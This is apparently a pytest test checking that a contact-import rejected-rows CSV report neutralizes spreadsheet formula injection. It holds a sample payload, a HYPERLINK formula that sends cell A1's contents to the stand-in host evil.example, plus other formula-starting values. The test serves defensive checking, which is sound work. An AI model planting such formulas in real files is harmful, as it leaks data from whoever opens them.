"""Attack: a spreadsheet row with a formula comes back live in the rejected-rows report."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from clickpro.extensions import db
from clickpro.models import ContactImport

EVIL = '=1+HYPERLINK("https://evil.example/?x="&A1,"clique")'


def test_rejected_rows_report_neutralizes_formulas(client, create_client, login_as):
    tenant = create_client()
    login_as(tenant.admin, tenant)
    data = f'Nome;Telefone\r\n"{EVIL.replace(chr(34), chr(34) * 2)}";12\r\n@SUM(A1);+1+2\r\n'
    response = client.post(
        "/contacts/imports/new",
        data={"file": (io.BytesIO(data.encode()), "c.csv"), "list_id": "", "list_name": "",
              "sheet": ""},
        content_type="multipart/form-data",
    )  # fmt: skip
    assert response.status_code == 302
    imp = db.session.scalar(sa.select(ContactImport))
    assert (
        client.post(response.headers["Location"], data={"phone": "1", "name": "0"}).status_code
        == 302
    )
    body = client.get(f"/contacts/imports/{imp.id}/rejected.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][1] == "'" + EVIL and rows[1][2] == "12"
    assert rows[2][1] == "'@SUM(A1)" and rows[2][2] == "'+1+2"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
